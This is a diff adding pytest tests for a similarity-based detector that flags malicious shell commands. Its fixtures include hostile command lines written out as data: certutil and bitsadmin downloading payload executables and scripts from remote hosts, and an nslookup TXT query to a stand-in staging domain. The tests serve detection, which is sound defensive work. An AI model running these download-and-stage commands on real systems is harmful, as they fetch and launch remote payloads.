@@ -0,0 +1,52 @@
+from similarity import SimilarityIndex, normalize
+
+
+def test_similarity_index_near_duplicates(tmp_path):
+    index = SimilarityIndex.build([
+        ("certutil -urlcache -split -f http://10.0.0.5/payload.exe payload.exe", "malicious"),
+        ("bitsadmin /transfer job /download /priority high http://host/a.ps1 c:\\a.ps1", "suspicious"),
+    ], threshold=0.6)
+    path = str(tmp_path / "sim.npz")
+    index.save(path)
+    index = SimilarityIndex.load(path, threshold=0.6)
+
+    assert normalize("CertUtil  -f http://192.168.1.9/x") == "certutil -f http://<ip>/x"
+    score, known, verdict = index.lookup("CERTUTIL -urlcache  -split -f http://172.16.9.9/payload.exe payload.exe")
+    assert verdict == "malicious" and score == 1.0
+    assert index.lookup("certutil -urlcache -split -f http://10.0.0.5/dropper.exe dropper.exe")[2] == "malicious"
+    assert index.lookup("ping 8.8.8.8") is None
+
+
+def test_engine_similarity_stage(tmp_path):
+    from detector import DetectorEngine
+    path = str(tmp_path / "sim.npz")
+    SimilarityIndex.build([("nslookup -type=txt stage1.evil.example 10.1.1.1", "suspicious")]).save(path)
+    engine = DetectorEngine(signature_index_dir=None, similarity_index_file=path, stats_enabled=True)
+
+    result = engine.analyze("NSLOOKUP -type=txt  stage1.evil.example 10.9.9.9")
+    assert result["verdict"] == "suspicious"
+    assert result["reason"].startswith("Similarity-Based: 1.00 similar to known suspicious command")
+    assert engine.stats_snapshot()["final_stage"]["similarity"] == 1
+
+
+def test_lookup_only_shingles_the_query(monkeypatch):
+    import similarity
+    index = SimilarityIndex.build([(f"certutil -urlcache -split -f http://host/p{c}.exe p{c}.exe", "malicious")
+                                   for c in "abcdefgh"], threshold=0.6)
+    calls = []
+    real = similarity.shingles
+    monkeypatch.setattr(similarity, "shingles", lambda *args: calls.append(args) or real(*args))
+
+    score, known, verdict = index.lookup("certutil -urlcache -split -f http://host/pa.exe pa.exe")
+    assert score == 1.0 and verdict == "malicious"
+    assert len(calls) == 1
+
+
+def test_signature_of_long_commands_is_chunked(monkeypatch):
+    import similarity
+    hasher = similarity.MinHasher()
+    hashes = similarity.shingle_hashes("powershell -c " + " ".join(f"w{i:06x}" for i in range(3000)))
+    whole = hasher.signature(hashes)
+    monkeypatch.setattr(similarity, "SIGNATURE_CHUNK", 7)
+    assert (hasher.signature(hashes) == whole).all()
+    assert (hasher.signature(frozenset()) == similarity._PRIME).all()